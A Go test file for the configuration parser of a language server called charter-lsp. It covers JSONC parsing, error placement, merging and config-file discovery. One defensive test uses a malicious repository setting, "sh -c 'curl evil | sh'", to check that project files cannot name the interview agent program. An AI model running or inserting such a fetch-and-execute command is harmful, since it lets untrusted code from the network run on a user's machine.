package analysis

import (
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/charter-lsp/charter-lsp/analysis/diag"
	"github.com/charter-lsp/charter-lsp/analysis/vfs"
)

func TestParseConfig(t *testing.T) {
	cfg, err := ParseConfig([]byte(`{
	  // comments and trailing commas are fine
	  "severity": {"stale-evidence": "error", "val-title-task": "off",},
	  /* block */ "sourceDirs": ["src", "lib"],
	  "freshness": "git",
	  "questionBudget": 7,
	  "debounceMs": 0,
	}`))
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Severity["stale-evidence"] != "error" || cfg.Budget() != 7 || cfg.FreshnessMode() != "git" ||
		len(cfg.Sources()) != 2 || cfg.DebounceMs == nil || *cfg.DebounceMs != 0 {
		t.Fatalf("unexpected config %+v", cfg)
	}
}

func TestParseConfigErrors(t *testing.T) {
	cases := map[string]string{
		`{"severity": {"no-such-code": "off"}}`:    `unknown diagnostic code "no-such-code"`,
		`{"severity": {"stale-evidence": "loud"}}`: `unknown severity "loud"`,
		`{"freshness": "ctime"}`:                   `freshness`,
		`{"sourceDirs": ["../outside"]}`:           `inside the project`,
		`{"sourceDirs": ["/abs"]}`:                 `inside the project`,
		`{"questionBudget": -1}`:                   `questionBudget`,
		`{"sevrity": {}}`:                          `unknown key "sevrity"`,
		"{\n  \"questionBudget\": \"five\"\n}":     `line 2`,
		"{\n  \"a\": 1,,\n}":                       `line 2`,
	}
	for src, want := range cases {
		_, err := ParseConfig([]byte(src))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseConfig(%s) error = %v, want it to mention %q", src, err, want)
		}
	}
}

func TestMergeAndDefaults(t *testing.T) {
	var zero Config
	if zero.Budget() != DefaultQuestionBudget || zero.FreshnessMode() != "git" || zero.Sources()[0] != "src" {
		t.Fatalf("defaults wrong: %d %s %v", zero.Budget(), zero.FreshnessMode(), zero.Sources())
	}
	base := Config{Severity: map[string]string{"stale-evidence": "error", "milestone-size": "off"}, QuestionBudget: 3}
	over := Config{Severity: map[string]string{"milestone-size": "hint"}, Freshness: "git"}
	m := base.Merge(over)
	if m.Severity["stale-evidence"] != "error" || m.Severity["milestone-size"] != "hint" || m.QuestionBudget != 3 || m.Freshness != "git" {
		t.Fatalf("merge wrong: %+v", m)
	}
	if base.Severity["milestone-size"] != "off" {
		t.Fatal("merge modified its receiver")
	}
}

func TestApplySeverity(t *testing.T) {
	ds := []diag.Diagnostic{diag.New(diag.StaleEvidence, sp(0, 1), "x"), diag.New(diag.VALTitleTask, sp(0, 1), "y"), diag.New(diag.MissingVerifier, sp(0, 1), "z")}
	cfg := Config{Severity: map[string]string{"stale-evidence": "error", "val-title-task": "off"}}
	out := cfg.ApplySeverity(ds)
	if len(out) != 2 || out[0].Severity != diag.SeverityError || out[1].Code != diag.MissingVerifier || out[1].Severity != diag.SeverityWarning {
		t.Fatalf("ApplySeverity = %+v", out)
	}
}

func TestFindConfigFileStopsAtRepoRoot(t *testing.T) {
	root := t.TempDir()
	repo := filepath.Join(root, "repo")
	os.MkdirAll(filepath.Join(repo, ".git"), 0o755)
	os.MkdirAll(filepath.Join(repo, "a", "b"), 0o755)
	os.WriteFile(filepath.Join(root, ".charter-lsp.jsonc"), []byte("{}"), 0o644) // outside the repo: ignored
	if got := FindConfigFile(vfs.OS, filepath.Join(repo, "a", "b")); got != "" {
		t.Fatalf("found %q outside the repository", got)
	}
	os.WriteFile(filepath.Join(repo, "a", ".charter-lsp.jsonc"), []byte("{}"), 0o644)
	if got := FindConfigFile(vfs.OS, filepath.Join(repo, "a", "b")); got != filepath.Join(repo, "a", ".charter-lsp.jsonc") {
		t.Fatalf("FindConfigFile = %q", got)
	}
}

// A project file naming the interview agent keeps its other settings; the
// agent keys are never read from it, and the file's diagnostic says why
// (the agent is a program run, so only the user names it).
func TestProjectFileCannotNameTheAgent(t *testing.T) {
	src := []byte(`{
		// a repository that would like to run something
		"interviewAgent": "sh -c 'curl evil | sh'",
		"interviewAgentTimeout": 5,
		"questionBudget": 3,
	}`)
	cfg, err := ParseConfig(src)
	if err != nil || cfg.Budget() != 3 {
		t.Fatalf("the rest of the file was lost: %+v, %v", cfg, err)
	}
	ds := CheckConfigFile(src)
	if len(ds) != 2 {
		t.Fatalf("diagnostics %+v, want one per agent key", ds)
	}
	for i, k := range UserOnlyKeys {
		d := ds[i]
		if d.Severity != diag.SeverityWarning || !strings.HasPrefix(d.Message, k+" is ignored here: the interview agent is a program") || !strings.Contains(d.Message, "never a project file") {
			t.Errorf("diagnostic %d: %s %q", i, d.Severity, d.Message)
		}
		if got := string(src[d.Span.Start:d.Span.End]); got != `"`+k+`"` {
			t.Errorf("diagnostic %d is on %q, want the key", i, got)
		}
	}
	if ds := CheckConfigFile([]byte(`{"questionBudget": 3}`)); len(ds) != 0 {
		t.Errorf("a plain file: %+v", ds)
	}
}

// A configuration error is reported where it is, in the file's own terms:
// the value or key at fault, never 1:1 with the position only in the text,
// and never Go's names for the types and fields.
func TestConfigErrorPlaced(t *testing.T) {
	for _, c := range []struct {
		src       string
		at        string // the text the diagnostic covers
		want      string
		forbidden []string
	}{
		{"{\n  \"severity\": {},\n  \"sourceDirs\": \"src\"\n}\n", `"src"`, "sourceDirs: a string where a list of folders belongs", nil},
		{"{\n  \"questionBudget\": \"five\"\n}", `"five"`, "questionBudget: a string where a number belongs", nil},
		{"{\n  \"severity\": {\"stale-evidence\": 1}\n}", `1`, "severity.stale-evidence: a number where a severity name belongs", nil},
		{"{\n  \"sevrity\": {}\n}", `"sevrity"`, `unknown key "sevrity" (did you mean "severity"?)`, nil},
		{"{\n  \"severity\": {\"no-such-code\": \"off\"}\n}", `"no-such-code"`, `unknown diagnostic code "no-such-code"`, nil},
		{"{\n  \"severity\": {\"stale-evidence\": \"loud\"}\n}", `"loud"`, `unknown severity "loud"`, nil},
		{"{\n  \"freshness\": \"ctime\"\n}", `"ctime"`, `freshness`, nil},
		{"{\n  \"sourceDirs\": [\"src\", \"../out\"]\n}", `"../out"`, `inside the project`, nil},
		{"{\n  \"debounceMs\": 99999\n}", `99999`, `debounceMs`, nil},
		{"[]", `[]`, `an array where an object of settings belongs`, nil},
	} {
		ds := CheckConfigFile([]byte(c.src))
		if len(ds) != 1 {
			t.Errorf("%q: %d diagnostics", c.src, len(ds))
			continue
		}
		d := ds[0]
		got := c.src[d.Span.Start:d.Span.End]
		if got != c.at || !strings.Contains(d.Message, c.want) {
			t.Errorf("%q: %q at %q, want %q at %q", c.src, d.Message, got, c.want, c.at)
		}
		for _, leak := range []string{"Go struct", "Config.", "[]string", "json:", "line "} {
			if strings.Contains(d.Message, leak) {
				t.Errorf("%q: the message %q says %q", c.src, d.Message, leak)
			}
		}
	}
	// Where no diagnostic can point (a --config FILE given on the command
	// line), the error says the line and column.
	_, err := ParseConfig([]byte("{\n  \"sourceDirs\": \"src\"\n}"))
	if err == nil || !strings.HasPrefix(err.Error(), "line 2, column 17: sourceDirs:") {
		t.Errorf("ParseConfig error %v, want it to start with the line and column of the value", err)
	}
}

// listedFS is the OS file system with the listings of folders it was told
// to hold (vfs.ListingHolder), counting the Stats asked of it.
type listedFS struct {
	vfs.FS
	held  map[string][]string // folder → names
	stats []string
}

func (l *listedFS) Stat(name string) (fs.FileInfo, error) {
	l.stats = append(l.stats, filepath.Base(name))
	return l.FS.Stat(name)
}

func (l *listedFS) Holds(dir, name string) (has, known bool) {
	names, ok := l.held[dir]
	return slices.Contains(names, name), ok
}

// TestConfigInAsksOnlyWhatAHeldListingHas: a folder's project file and
// .git are looked for with Stat only when no listing of the folder is held
// or the listing has them; the answer is the same either way.
func TestConfigInAsksOnlyWhatAHeldListingHas(t *testing.T) {
	dir := t.TempDir()
	empty, project := filepath.Join(dir, "empty"), filepath.Join(dir, "project")
	for _, d := range []string{empty, project} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(project, ".charter-lsp.jsonc"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		dir       string
		held      []string // nil: no listing held
		file      string
		stops     bool
		statsSeen int
	}{
		{empty, nil, "", false, len(ConfigFileNames) + 1},
		{empty, []string{}, "", false, 0},
		{project, nil, filepath.Join(project, ".charter-lsp.jsonc"), true, 1},
		{project, []string{".charter-lsp.jsonc"}, filepath.Join(project, ".charter-lsp.jsonc"), true, 1},
	} {
		l := &listedFS{FS: vfs.OS, held: map[string][]string{}}
		if tc.held != nil {
			l.held[tc.dir] = tc.held
		}
		file, stops := ConfigIn(l, tc.dir)
		if file != tc.file || stops != tc.stops || len(l.stats) != tc.statsSeen {
			t.Errorf("ConfigIn(%s, held %q) = %q, %v after stats of %q; want %q, %v after %d", filepath.Base(tc.dir), tc.held, file, stops, l.stats, tc.file, tc.stops, tc.statsSeen)
		}
	}
}
